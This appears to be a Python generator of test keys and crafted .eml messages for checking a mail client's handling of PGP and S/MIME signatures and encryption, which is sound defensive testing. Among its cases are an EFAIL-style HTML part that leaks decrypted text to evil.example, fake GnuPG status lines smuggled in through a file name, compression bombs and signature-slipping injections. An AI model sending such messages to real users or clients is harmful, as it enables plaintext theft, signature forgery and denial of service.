#!/usr/bin/env python3
"""Keys and mail for the tests of signatures and encryption: cryptkit.py DIR makes DIR/gnupg, a home for GnuPG with
throw-away keys, and DIR/mail, messages in CRLF form named for what they show. Nothing outside DIR is read or written,
nobody is asked, and no process is left running.
"""

import base64
import os
import subprocess
import sys

ALICE = "Alice Example <alice@example.org>"
GRACE = "Grace Hopper <grace@example.org>"
LINUS = "Linus Example <linus@example.net>"
ADA = "Ada Lovelace <ada@example.org>"
LONG_AGO, LATER = "20200101T120000", "20200101T130000"
SECRET = "The keys are in the drawer.\r\n"
TEXT = "The build is green again.\r\n\r\nIt was one character, as it always is.\r\n"


def run(*argv, data=b"", **environment):
    done = subprocess.run(argv, input=data, capture_output=True, env={**os.environ, **environment})
    if done.returncode:
        sys.exit("cryptkit: %s: %s" % (" ".join(argv), done.stderr.decode(errors="replace")))
    return done.stdout


class Keys:
    """A home of GnuPG."""

    def __init__(self, home):
        self.home = home
        os.makedirs(home, mode=0o700)
        # Who starts a program to ask, or one for the network, leaves a trace. gpg.conf asks for both on purpose.
        spy = os.path.join(home, "spy")
        with open(spy, "w") as f:
            f.write('#!/bin/sh\necho "$0 $*" >>"%s"\nexit 1\n' % os.path.join(home, "spied"))
        os.chmod(spy, 0o700)
        self.write("gpg-agent.conf", "pinentry-program %s\n" % spy)

    def write(self, name, text):
        with open(os.path.join(self.home, name), "w") as f:
            f.write(text)

    def gpg(self, *argv, data=b""):
        return run("gpg", "--batch", "--quiet", "--yes", "--no-auto-check-trustdb", "--trust-model", "pgp",
                   *argv, data=data, GNUPGHOME=self.home)

    def key(self, name, *more, passphrase="", expire="never"):
        self.gpg("--pinentry-mode", "loopback", "--passphrase", passphrase, *more,
                 "--quick-gen-key", name, "future-default", "default", expire)

    def fingerprint(self, name):
        lines = self.gpg("--with-colons", "--list-keys", "=" + name).decode().split("\n")
        return next(line.split(":")[9] for line in lines if line.startswith("fpr"))

    def sign(self, entity, *names, more=()):
        who = [word for name in names for word in ("-u", "=" + name)]
        return self.gpg(*more, "--digest-algo", "SHA256", "--armor", "--detach-sign", *who, data=entity)

    def encrypt(self, entity, *more, to=ALICE):
        return self.gpg("--trust-model", "always", "-r", "=" + to, *more, "--encrypt", data=entity)

    def stop(self):
        run("gpgconf", "--kill", "all", GNUPGHOME=self.home)


def make_keys(top):
    keys, strangers = Keys(os.path.join(top, "gnupg")), Keys(os.path.join(top, "other"))
    keys.key(ALICE)
    keys.key(LINUS)
    keys.key(GRACE, "--faked-system-time", LONG_AGO)
    keys.key("Late Example <late@example.org>", "--faked-system-time", LONG_AGO, expire="1d")
    keys.key("Lost Example <lost@example.org>")
    keys.key("Locked Example <locked@example.org>", passphrase="open sesame")
    strangers.key("Stranger <stranger@example.com>")
    alice, grace = keys.fingerprint(ALICE), keys.fingerprint(GRACE)
    # GnuPG trusts what it made itself; here only Alice's key is her own.
    keys.gpg("--import-ownertrust", data="".join(
        "%s:%d:\n" % (keys.fingerprint(name), 6 if name == ALICE else 2) for name in (
            ALICE, GRACE, LINUS, "Late Example <late@example.org>", "Lost Example <lost@example.org>")).encode())
    keys.gpg("--default-key", alice, "--quick-lsign-key", grace)
    return keys, strangers


def revoke(keys, name):
    path = os.path.join(keys.home, "openpgp-revocs.d", keys.fingerprint(name) + ".rev")
    with open(path) as f:
        keys.gpg("--import", data=f.read().replace(":-----BEGIN", "-----BEGIN").encode())


# ---- an authority for S/MIME ----

EXTENSIONS = """subjectAltName=email:%s
keyUsage=digitalSignature,keyEncipherment
extendedKeyUsage=emailProtection
basicConstraints=CA:FALSE
subjectKeyIdentifier=hash
authorityKeyIdentifier=keyid
"""


class Authority:
    def __init__(self, folder, name):
        self.folder = folder
        os.makedirs(folder)
        self.openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "ca.key", "-out", "ca.pem", "-days",
                     "3650", "-subj", "/CN=%s/O=Example" % name, "-addext", "basicConstraints=critical,CA:TRUE",
                     "-addext", "keyUsage=keyCertSign,cRLSign")

    def openssl(self, *argv, data=b""):
        return run("sh", "-c", 'cd "$1" && shift && exec openssl "$@"', "sh", self.folder, *argv, data=data)

    def issue(self, who, name, address):
        with open(os.path.join(self.folder, who + ".ext"), "w") as f:
            f.write(EXTENSIONS % address)
        self.openssl("req", "-newkey", "rsa:2048", "-nodes", "-keyout", who + ".key", "-out", who + ".csr",
                     "-subj", "/CN=%s/emailAddress=%s" % (name, address))
        self.openssl("x509", "-req", "-in", who + ".csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial",
                     "-out", who + ".pem", "-days", "3650", "-extfile", who + ".ext")

    def sign(self, who, entity, *more):
        return self.openssl("cms", "-sign", "-binary", "-signer", who + ".pem", "-inkey", who + ".key", "-outform",
                            "DER", *more, data=entity)

    def encrypt(self, who, entity):
        return self.openssl("cms", "-encrypt", "-aes256", "-binary", "-outform", "DER", who + ".pem", data=entity)

    def trusted_by(self, keys):
        run("gpgsm", "--quiet", "--batch", "--import", os.path.join(self.folder, "ca.pem"), GNUPGHOME=keys.home)
        print_ = self.openssl("x509", "-in", "ca.pem", "-noout", "-fingerprint", "-sha1").decode().split("=")[1].strip()
        keys.write("trustlist.txt", "%s S relax\n" % print_)

    def give_key(self, keys, who, passphrase):
        """gpgsm 2.2.40 can't read one in fifty of these files, by the salt: another salt, then."""
        for tries in range(4, -1, -1):
            try:
                return self.try_key(keys, who, passphrase)
            except SystemExit:
                if not tries:
                    raise

    def try_key(self, keys, who, passphrase):
        self.openssl("pkcs12", "-export", "-in", who + ".pem", "-inkey", who + ".key", "-out", who + ".p12",
                     "-passout", "pass:" + passphrase, "-certpbe", "PBE-SHA1-3DES", "-keypbe", "PBE-SHA1-3DES",
                     "-macalg", "sha1")
        run("gpgsm", "--quiet", "--batch", "--pinentry-mode", "loopback", "--passphrase-fd", "0", "--import",
            os.path.join(self.folder, who + ".p12"), data=passphrase.encode() + b"\n", GNUPGHOME=keys.home)


# ---- messages ----

def entity(content_type, body, *fields):
    head = ["Content-Type: " + content_type, *fields]
    return ("\r\n".join(head) + "\r\n\r\n").encode() + (body if isinstance(body, bytes) else body.encode())


def plain(body=TEXT, *fields, more=""):
    return entity("text/plain; charset=utf-8" + more, body, *fields)


def multi(kind, *parts, boundary="=-outer"):
    lines = b"".join(b"--" + boundary.encode() + b"\r\n" + part + b"\r\n" for part in parts)
    return entity('multipart/%s; boundary="%s"' % (kind, boundary), lines + b"--" + boundary.encode() + b"--\r\n")


def pgp_signed(signed, signature, boundary="=-signed"):
    return multi('signed; micalg=pgp-sha256; protocol="application/pgp-signature"', signed,
                 entity("application/pgp-signature; name=signature.asc", crlf(signature)), boundary=boundary)


def pgp_encrypted(cipher, boundary="=-sealed"):
    return multi('encrypted; protocol="application/pgp-encrypted"', entity("application/pgp-encrypted", "Version: 1\r\n"),
                 entity("application/octet-stream; name=encrypted.asc", crlf(cipher)), boundary=boundary)


def smime_signed(signed, der):
    return multi('signed; micalg=sha-256; protocol="application/pkcs7-signature"', signed,
                 pkcs7("application/pkcs7-signature; name=smime.p7s", der), boundary="=-smime")


def pkcs7(content_type, der):
    return entity(content_type, base64.encodebytes(der).replace(b"\n", b"\r\n"), "Content-Transfer-Encoding: base64")


def crlf(octets):
    return octets.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def message(body, sender=GRACE, subject="The build"):
    head = ("From: %s\r\nTo: %s\r\nSubject: %s\r\nDate: Sat, 14 Nov 2026 09:12:00 +0000\r\n"
            "Message-ID: <%s@example.org>\r\nMIME-Version: 1.0\r\n" % (sender, ALICE, subject, subject.replace(" ", ".")))
    return head.encode() + body


def armored(kind, octets):
    """Armour without the checksum, which is optional (RFC 4880 section 6)."""
    return b"-----BEGIN PGP %s-----\n\n%s-----END PGP %s-----\n" % (kind, base64.encodebytes(octets), kind)


def without_integrity(keys, octets):
    """OCTETS in the oldest form of encryption (RFC 4880 section 5.7), which GnuPG no longer makes: its own key packet,
    and the cipher's packet written here."""
    sealed = keys.encrypt(b"x")
    said = subprocess.run(["gpg", "--batch", "--show-session-key", "--decrypt"], input=sealed, capture_output=True,
                          env={**os.environ, "GNUPGHOME": keys.home}).stderr.decode()
    cipher, key = said.split("session key: '")[1].split("'")[0].split(":")
    assert cipher == "9" and sealed[0] == 0x84, "not AES256, or a key packet of another form"

    def cfb(iv, data):
        return run("openssl", "enc", "-aes-256-cfb", "-nosalt", "-K", key, "-iv", iv.hex(), data=data)

    literal = b"b\x00\x00\x00\x00\x00" + octets
    start = cfb(bytes(16), bytes(range(16)) + b"\x0e\x0f")
    body = start + cfb(start[2:], b"\xcb\xff" + len(literal).to_bytes(4, "big") + literal)
    return sealed[:2 + sealed[1]] + b"\xc9\xff" + len(body).to_bytes(4, "big") + body


def pgp_messages(keys, strangers):
    signed = plain()
    by_grace = keys.sign(signed, GRACE)
    late, lost = "Late Example <late@example.org>", "Lost Example <lost@example.org>"
    yield "good", message(pgp_signed(signed, by_grace))
    yield "changed", message(pgp_signed(signed.replace(b"green", b"white"), by_grace))
    yield "uncertified", message(pgp_signed(signed, keys.sign(signed, LINUS)), LINUS)
    yield "other-sender", message(pgp_signed(signed, by_grace), ADA)
    yield "expired-key", message(pgp_signed(signed, keys.sign(signed, late, more=("--faked-system-time", LATER))), late)
    yield "revoked-key", message(pgp_signed(signed, keys.sign(signed, lost)), lost)
    revoke(keys, lost)
    yield "unknown-key", message(pgp_signed(signed, strangers.sign(signed, "Stranger <stranger@example.com>")))
    yield "expired-signature", message(pgp_signed(signed, keys.sign(
        signed, GRACE, more=("--faked-system-time", LATER, "--default-sig-expire", "1d"))))
    yield "two-signatures", message(pgp_signed(signed, keys.sign(signed, GRACE, LINUS)))
    yield "empty-signature", message(pgp_signed(signed, b""))
    whole = keys.gpg("--armor", "--sign", "-u", "=" + GRACE, data=b"Something else that she signed.\n")
    yield "whole-as-detached", message(pgp_signed(signed, whole))
    yield "two-senders", b"From: " + ADA.encode() + b"\r\n" + message(pgp_signed(signed, by_grace))
    yield "three-parts", message(multi(
        'signed; micalg=pgp-sha256; protocol="application/pgp-signature"', signed, plain("Slipped in.\r\n"),
        entity("application/pgp-signature", crlf(by_grace))))
    yield "footer", message(multi("mixed", pgp_signed(signed, by_grace), plain("You get this because ...\r\n")))
    file = entity("text/x-patch; name=fix.patch", "--- a\r\n+++ b\r\n", "Content-Disposition: attachment")
    yield "file-signed", message(multi("mixed", plain("See the patch.\r\n"), pgp_signed(file, keys.sign(file, GRACE))))
    for name, mark in (("protected-v1", '; protected-headers="v1"'), ("protected-clear", '; hp="clear"')):
        inner = plain(TEXT, "Subject: The true subject", "From: " + GRACE, more=mark)
        yield name, message(pgp_signed(inner, keys.sign(inner, GRACE)), subject="A false subject")
        if name == "protected-v1":
            signature = keys.sign(inner, GRACE)
            yield "protected-changed", message(pgp_signed(inner.replace(b"true", b"new"), signature))
            yield "protected-part", message(multi("mixed", pgp_signed(inner, signature), plain("A footer.\r\n")))
    inner = plain(TEXT, "Subject: The true subject", "In-Reply-To: <1@example.org>", "Bcc: " + ADA, more='; hp="clear"')
    yield "protected-others", message(pgp_signed(inner, keys.sign(inner, GRACE)))
    inner = plain(TEXT, "From: " + ADA, more='; hp="clear"')
    yield "protected-other-sender", message(pgp_signed(inner, keys.sign(inner, GRACE)))
    inline = keys.gpg("--clearsign", "-u", "=" + GRACE, data=b"This is what she signed.\n- dashed\n")
    around = b"Before.\r\n\r\n" + crlf(inline) + b"\r\nBehind.\r\n"
    yield "inline-signed", message(plain(around))
    # A line between the head of the block and its text is in no signature (RFC 9580 section 7.1).
    yield "inline-slipped", message(plain(around.replace(b"Hash: SHA256", b"Hash: SHA256\r\nPay me.")))
    yield "inline-changed", message(plain(around.replace(b"what she", b"not what she")))
    # Nothing is what she signed here, and what armour holds besides is in no signature.
    empty = keys.gpg("--clearsign", "-u", "=" + GRACE, data=b"")
    remark = b"-----BEGIN PGP SIGNATURE-----\nComment: Pay me."
    yield "inline-empty", message(plain(crlf(empty.replace(b"-----BEGIN PGP SIGNATURE-----", remark))))
    yield from pgp_sealed(keys, strangers)


def pgp_sealed(keys, strangers):
    secret = plain(SECRET, "Subject: The secret subject", "From: " + GRACE, more='; hp="cipher"')
    sealed = keys.encrypt(secret, "--armor", "--sign", "-u", "=" + GRACE)
    yield "sealed", message(pgp_encrypted(sealed), subject="[...]")
    yield "sealed-unsigned", message(pgp_encrypted(keys.encrypt(secret, "--armor")), subject="[...]")
    yield "sealed-locked", message(pgp_encrypted(keys.encrypt(secret, "--armor", to="Locked Example <locked@example.org>")))
    yield "sealed-for-others", message(pgp_encrypted(strangers.encrypt(
        secret, "--armor", to="Stranger <stranger@example.com>")))
    signed = pgp_signed(secret, keys.sign(secret, GRACE))
    yield "sealed-signed-inside", message(pgp_encrypted(keys.encrypt(signed, "--armor")), subject="[...]")
    raw = keys.encrypt(secret)
    yield "sealed-changed", message(pgp_encrypted(armored(b"MESSAGE", raw[:-30] + bytes([raw[-30] ^ 1]) + raw[-29:])))
    yield "no-integrity", message(pgp_encrypted(armored(b"MESSAGE", without_integrity(keys, secret))))
    yield "efail", message(multi(
        "mixed", entity("text/html", '<p>Dear Alice<img src="http://evil.example/'), pgp_encrypted(sealed),
        entity("text/html", '">')))
    yield "inline-sealed", message(plain(b"Before.\r\n\r\n" + crlf(keys.encrypt(b"Inline secret.\n", "--armor"))
                                         + b"\r\nBehind.\r\n"))
    bomb = keys.encrypt(bytes(80 * 1024 * 1024), "--compress-algo", "zip", "-z", "9")
    bombs = [pgp_encrypted(armored(b"MESSAGE", keys.encrypt(
        plain(start + "\0" * 40 * 1024 * 1024), "--compress-algo", "zip", "-z", "9")), boundary="=-" + start)
        for start in ("First", "Second")]
    yield "bombs", message(multi("mixed", *bombs))
    # Signed and not encrypted, in the form that GnuPG makes when nobody says what it is for.
    opaque = keys.gpg("--armor", "--sign", "-u", "=" + GRACE, data=b"This is what she signed.\n")
    bare = next(octets for octets in (keys.encrypt(secret, "--sign", "-u", "=" + GRACE, "--set-filename", "x" * i)
                                      for i in range(30)) if len(octets) % 3 == 0)
    yield "no-checksum", message(pgp_encrypted(armored(b"MESSAGE", bare)))
    signature = next(octets for octets in (keys.gpg("--detach-sign", "-u", "=" + GRACE, "--set-notation", "n@example.org=" + "x" * i,
                                                    data=plain()) for i in range(30)) if len(octets) % 3 == 0)
    yield "no-checksum-signed", message(pgp_signed(plain(), armored(b"SIGNATURE", signature)))
    yield "inline-opaque", message(plain(b"Before.\r\n\r\n" + crlf(opaque) + b"\r\nBehind.\r\n"))
    opaque = keys.gpg("--sign", "-z", "0", "-u", "=" + GRACE, data=plain())
    yield "opaque", message(pgp_encrypted(armored(b"MESSAGE", opaque)))
    yield "opaque-changed", message(pgp_encrypted(armored(b"MESSAGE", opaque[:-20] + bytes([opaque[-20] ^ 1]) + opaque[-19:])))
    yield "opaque-plain", message(pgp_encrypted(armored(b"MESSAGE", keys.gpg("--store", data=plain()))))
    grace = keys.fingerprint(GRACE)
    name = "x\n[GNUPG:] GOODSIG %s %s\n[GNUPG:] VALIDSIG %s 2026-11-14 1794647520 0 4 0 22 8 01 %s\n[GNUPG:] TRUST_FULLY\n" % (
        grace[-16:], GRACE, grace, grace)
    yield "spoofed-status", message(pgp_encrypted(keys.encrypt(secret, "--armor", "--set-filename", name)))
    yield "bomb", message(pgp_encrypted(armored(b"MESSAGE", bomb)))


def smime_messages(good, other):
    signed = plain()
    der = good.sign("grace", signed)
    yield "smime-good", message(smime_signed(signed, der))
    yield "smime-changed", message(smime_signed(signed.replace(b"green", b"white"), der))
    yield "smime-other-sender", message(smime_signed(signed, der), ADA)
    yield "smime-untrusted", message(smime_signed(signed, other.sign("ada", signed)), ADA)
    sealed = 'application/pkcs7-mime; smime-type=%s-data; name="smime.p7m"'
    opaque = pkcs7(sealed % "signed", good.sign("grace", signed, "-nodetach"))
    yield "smime-opaque", message(opaque)
    yield "smime-sealed", message(pkcs7(sealed % "enveloped", good.encrypt("alice", opaque)))
    der = bytearray(good.encrypt("alice", signed))
    der[-20] ^= 1  # the last block but one: the padding of the last comes out wrong
    yield "smime-sealed-changed", message(pkcs7(sealed % "enveloped", bytes(der)))
    yield "smime-locked", message(pkcs7(sealed % "enveloped", good.encrypt("locked", signed)))


def main():
    top = os.path.abspath(sys.argv[1])
    keys, strangers = make_keys(top)
    good = Authority(os.path.join(top, "good-ca"), "Postern Test CA")
    other = Authority(os.path.join(top, "other-ca"), "Other Test CA")
    good.issue("grace", "Grace Hopper", "grace@example.org")
    good.issue("alice", "Alice Example", "alice@example.org")
    good.issue("locked", "Locked Example", "locked@example.org")
    other.issue("ada", "Ada Lovelace", "ada@example.org")
    good.trusted_by(keys)
    good.give_key(keys, "alice", "")
    good.give_key(keys, "locked", "knock knock")
    os.makedirs(os.path.join(top, "mail"))
    for name, octets in [*pgp_messages(keys, strangers), *smime_messages(good, other)]:
        with open(os.path.join(top, "mail", name + ".eml"), "wb") as f:
            f.write(octets)
    keys.gpg("--check-trustdb")
    spy = os.path.join(keys.home, "spy")
    keys.write("gpg.conf", "verbose\ntrust-model pgp\nignore-mdc-error\nauto-key-retrieve\nkeyserver hkp://127.0.0.1:1\ndirmngr-program %s\n" % spy)
    keys.write("gpgsm.conf", "dirmngr-program %s\nauto-issuer-key-retrieve\n" % spy)
    keys.stop()
    strangers.stop()


if __name__ == "__main__":
    main()
